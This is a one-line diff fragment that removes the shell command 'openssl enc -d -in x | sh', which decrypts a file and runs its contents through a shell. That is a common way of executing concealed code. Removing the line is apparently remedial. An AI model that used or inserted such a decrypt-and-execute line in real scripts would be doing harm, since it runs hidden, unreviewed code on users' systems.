@@ -1,1 +1,0 @@
-openssl enc -d -in x | sh
